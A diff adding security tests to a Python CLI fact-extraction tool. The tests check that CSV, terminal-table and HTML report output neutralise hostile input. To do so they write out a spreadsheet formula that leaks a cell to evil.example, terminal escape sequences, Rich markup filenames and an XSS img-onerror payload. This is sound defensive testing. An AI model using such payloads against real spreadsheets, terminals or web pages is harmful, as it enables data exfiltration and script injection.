@@ -325,3 +325,80 @@ def test_invisible_characters_and_decomposed_accents_do_not_break_facts():
         for fact in result.facts:
             assert text[fact.start:fact.end] == fact.text and fact.text in fact.sentence
         assert value in [f.value for f in result.facts if f.kind == kind], (text, result.facts)
+
+
+def hostile_folder(tmp_path) -> Path:
+    """Names and text a spreadsheet or a terminal would obey, made here: formulas, markup, escapes."""
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "=1+1.txt").write_text('=HYPERLINK("http://evil.example/?leak="&A1,"x")\n' + ES_VOTE, encoding="utf-8")
+    for inner in ("[link=file:", "["):       # ids "[link=file:/evil].txt" and "[/x].txt", read as markup by Rich
+        (folder / inner).mkdir()
+    (folder / "[link=file:" / "evil].txt").write_text(FR_VOTE, encoding="utf-8")
+    (folder / "[" / "x].txt").write_text("Kast \x1b[2J\x1b]0;owned\x07 obtuvo el 58,9 % de los votos en Chile.\n",
+                                        encoding="utf-8")
+    return folder
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw(tmp_path):
+    import csv
+    import io
+
+    db = tmp_path / "k.db"
+    assert cli("extract", hostile_folder(tmp_path), "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
+    for command in ("facts", "documents", "conflicts"):
+        out = cli(command, "--db", db, "--format", "csv")
+        assert out.exit_code == 0
+        cells = [cell for row in csv.reader(io.StringIO(out.stdout)) for cell in row]
+        assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), command
+        assert not any("\x1b" in cell or "\x07" in cell for cell in cells)
+    neutral = list(csv.DictReader(io.StringIO(cli("facts", "--db", db, "--format", "csv").stdout)))
+    raw = list(csv.DictReader(io.StringIO(cli("facts", "--db", db, "--format", "csv", "--csv-raw").stdout)))
+    assert "'=1+1.txt" in {r["doc"] for r in neutral} and "=1+1.txt" in {r["doc"] for r in raw}
+    assert any(r["value"].startswith("-") is False and r["kind"] == "percentage" for r in neutral)
+
+
+def test_tables_show_names_and_text_as_text_never_as_markup_or_terminal_commands(tmp_path, monkeypatch):
+    from rich.console import Console
+
+    import kastfacts.cli as kcli
+
+    db = tmp_path / "k.db"
+    assert cli("extract", hostile_folder(tmp_path), "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
+    monkeypatch.setattr(kcli, "_console", lambda: Console(force_terminal=True, width=200))     # as at a terminal
+    for args in (("facts",), ("documents",), ("conflicts", "--explain", "1")):
+        out = cli(*args, "--db", db, "--format", "table")
+        assert out.exit_code in (0, 2), out.output
+        assert "\x1b[2J" not in out.stdout and "\x1b]0;" not in out.stdout and "\x1b]8;" not in out.stdout
+    listed = cli("facts", "--db", db, "--format", "table").stdout
+    assert "[/x].txt" in listed and "[link=file:/evil].txt" in listed
+    share = {"doc": "[/x].txt", "lang": "en", "kind": "percentage", "text": "58.1%", "start": 0, "end": 5,
+             "sentence": "\x1b]0;owned\x07 58.1%", "value": 58.1, "decimals": 1, "unit": "percent",
+             "subject": "[bold]Kast[/x]", "attribute": "vote_share"}
+    piped = "\n".join(json.dumps(f) for f in (share, {**share, "doc": "[link=file:/evil]b", "value": 58.4, "text": "58.4%"}))
+    card = cli("conflicts", "-", "--format", "table", input=piped)
+    assert card.exit_code == 0 and "[bold]Kast[/x]" in card.stdout and "\x1b]0;" not in card.stdout
+
+
+def test_a_tampered_store_or_shard_folder_cannot_put_script_in_the_report(tmp_path):
+    from kastfacts.records import Fact
+    from kastfacts.report import render_report
+
+    hostile_kind = 'x"><img src=x onerror=alert(1)>'
+    page = render_report([], [Fact("a.txt", "fr", hostile_kind, "Kast", 0, 4, "Kast", "Kast")], [])
+    assert "<img" not in page                                       # every attribute escaped, kinds included
+    db = small_store(tmp_path)
+    with sqlite3.connect(db) as con:
+        con.execute("UPDATE facts SET kind = ? WHERE kind = 'person'", (hostile_kind,))
+    out = cli("report", "--db", db, "--out", tmp_path / "r.html")
+    assert out.exit_code == 0 and "not facts of the contract" in " ".join(out.stderr.split())
+    assert "<img" not in (tmp_path / "r.html").read_text(encoding="utf-8")
+    assert all(f["kind"] != hostile_kind for f in jsonl(cli("facts", "--db", db, "--format", "jsonl").stdout))
+    shards = tmp_path / "shards"
+    assert cli("extract", SEEDS, "--out", shards, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
+    part = next((shards / "facts").glob("*.jsonl"))
+    lines = part.read_text(encoding="utf-8").splitlines()
+    part.write_text("\n".join([json.dumps({**json.loads(lines[0]), "kind": hostile_kind})] + lines[1:]) + "\n",
+                    encoding="utf-8")
+    out = cli("report", "--db", shards, "--out", tmp_path / "s.html")
+    assert out.exit_code == 0 and "<img" not in (tmp_path / "s.html").read_text(encoding="utf-8")
